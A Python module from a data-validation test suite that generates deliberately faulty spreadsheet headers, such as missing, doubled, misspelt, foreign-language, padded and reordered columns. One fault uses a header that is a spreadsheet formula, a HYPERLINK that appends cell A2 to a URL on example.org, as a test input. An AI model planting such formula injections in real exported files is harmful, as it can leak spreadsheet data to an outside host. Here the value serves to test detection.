"""Faults in the header: columns that are missing, doubled, renamed or more than asked for."""

from __future__ import annotations

from dataclasses import replace

import pandas as pd

from sojourn.world.bad.fault import Change, Fault, Given, everywhere, one
from sojourn.world.bad.sheet import Sheet

#: A header that a spreadsheet would run.
FORMULA = '=HYPERLINK("http://example.org/?"&A2;"open")'
_GERMAN = {
    "member_id": "Kundennummer", "joined_at": "Eintritt", "occurred_at": "Zeitpunkt", "event": "Ereignis",
    "amount": "Betrag", "trial": "Versuch", "scheme": "Variante", "assigned_at": "Zuordnung", "at": "Datum",
}  # fmt: skip


def _required(sheet: Sheet, given: Given) -> str:
    return one(given, [name for name in sheet.contract.required if name in sheet.rows.columns], sheet.table)


def _all(sheet: Sheet, rows: pd.DataFrame, column: str) -> Change:
    return Change(replace(sheet, rows=rows), column, everywhere(sheet))


def _renamed(sheet: Sheet, column: str, name: str) -> Change:
    return _all(sheet, sheet.rows.rename(columns={column: name}), column)


def _beside(sheet: Sheet, column: str, name: str) -> Change:
    copy = sheet.rows[[column]].set_axis([name], axis="columns")
    return _all(sheet, pd.concat([sheet.rows, copy], axis="columns"), name)


def _missing(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    return _all(sheet, sheet.rows.drop(columns=column), column)


def _doubled(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    return _beside(sheet, column, column)


def _doubled_by_case(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    return _beside(sheet, column, column.upper())


def _misspelt(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    middle = len(column) // 2
    return _renamed(sheet, column, column[:middle] + column[middle + 1 :])


def _foreign(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    return _renamed(sheet, column, _GERMAN.get(column, "Spalte"))


def _padded(sheet: Sheet, given: Given) -> Change:
    column = _required(sheet, given)
    return _renamed(sheet, column, f" {column} ")


def _upper(sheet: Sheet, given: Given) -> Change:  # noqa: ARG001 (faults share one shape)
    return _all(sheet, sheet.rows.rename(columns=str.upper), sheet.contract.required[0])


def _reordered(sheet: Sheet, given: Given) -> Change:
    names = [str(name) for name in given.rng.permutation(sheet.rows.columns)]
    return _all(sheet, sheet.rows[names], "")


def _extra(name: str, sheet: Sheet, given: Given) -> Change:
    sizes = given.rng.integers(36, 46, size=len(sheet.rows)).astype(str).astype(object)
    return _all(sheet, sheet.rows.assign(**{name: sizes}), name)


def _index(sheet: Sheet, given: Given) -> Change:  # noqa: ARG001 (faults share one shape)
    rows = sheet.rows.copy()
    rows.insert(0, "", [str(place) for place in everywhere(sheet)])
    return _all(sheet, rows, "")


FAULTS = (
    Fault("missing_column", "A required column is not there.", _missing, "events", "error", "columns"),
    Fault("doubled_column", "The header names a column twice.", _doubled, "events", "error", "columns"),
    Fault(
        "column_doubled_by_case", "The header names a column twice, once in capitals.",
        _doubled_by_case, "events", "error", "columns",
    ),
    Fault(
        "misspelt_column", "A letter is missing from the name of a required column.",
        _misspelt, "events", "error", "columns",
    ),
    Fault(
        "foreign_column", "A required column has a name in another language.",
        _foreign, "events", "error", "columns",
    ),
    Fault(
        "padded_column", "A name in the header has blanks around it.",
        _padded, "events", "error", "columns",
    ),
    Fault("upper_case_columns", "The whole header is in capitals.", _upper, "events", "error", "columns"),
    Fault(
        "reordered_columns", "Columns stand in another order.",
        _reordered, "events", "accepted", "columns",
    ),
    Fault(
        "extra_column", "There is a column that the contract does not know.",
        lambda sheet, given: _extra("shoe_size", sheet, given), "members", "note", "columns",
    ),
    Fault(
        "formula_as_column", "There is a column whose name is a formula of a spreadsheet.",
        lambda sheet, given: _extra(FORMULA, sheet, given), "members", "note", "columns",
    ),
    Fault(
        "index_column", "The first column numbers the rows and has no name.",
        _index, "events", "note", "columns",
    ),
)  # fmt: skip
